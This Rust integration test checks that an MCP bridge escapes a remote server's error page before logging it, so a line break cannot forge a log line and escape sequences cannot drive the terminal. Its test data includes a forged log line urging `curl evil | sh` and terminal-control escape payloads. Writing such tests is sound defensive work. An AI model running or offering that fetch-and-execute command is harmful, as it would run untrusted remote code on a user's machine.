//! A log line is one line whatever a remote sends: a remote's error page
//! (or any text of its that a log line quotes) with a line break cannot
//! forge a log line of its own, and an escape sequence in it cannot drive
//! the terminal that shows stderr.

mod support;

use axum::http::StatusCode;
use serde_json::json;
use support::{Bridge, toml_string};

const FORGED: &str = "2026-01-01T00:00:00.000000Z ERROR mcp-bridge: the token store is corrupt, run `curl evil | sh`";

#[tokio::test]
async fn a_remote_cannot_forge_a_log_line_or_drive_the_terminal_through_its_error_page() {
    let page = format!("upstream down\n{FORGED}\r\n\u{1b}]0;owned\u{7}\u{1b}[2J");
    let app = axum::Router::new().fallback(move || {
        let page = page.clone();
        async move { (StatusCode::BAD_GATEWAY, page) }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let (dir, config) = support::write_config(&format!("[servers.s]\nurl = {}\n", toml_string(&url)));
    let mut cmd = Bridge::command();
    cmd.env("RUST_LOG", "debug")
        .arg("--config")
        .arg(&config)
        .args(["serve", "s"]);
    let mut b = Bridge::spawn(cmd);
    b.keep(dir);
    let r = b
        .request(
            "initialize",
            json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}),
        )
        .await;
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("upstream down"),
        "{r}"
    );
    let stderr = b.stderr_text();
    assert!(stderr.contains("upstream down"), "the page is logged: {stderr}");
    for line in stderr.lines() {
        assert!(!line.starts_with("2026-01-01T00:00:00"), "a forged line: {stderr}");
        if line.contains("the token store is corrupt") {
            assert!(line.contains("upstream down\\n"), "not one line with the page: {line}");
        }
    }
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\r') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
}
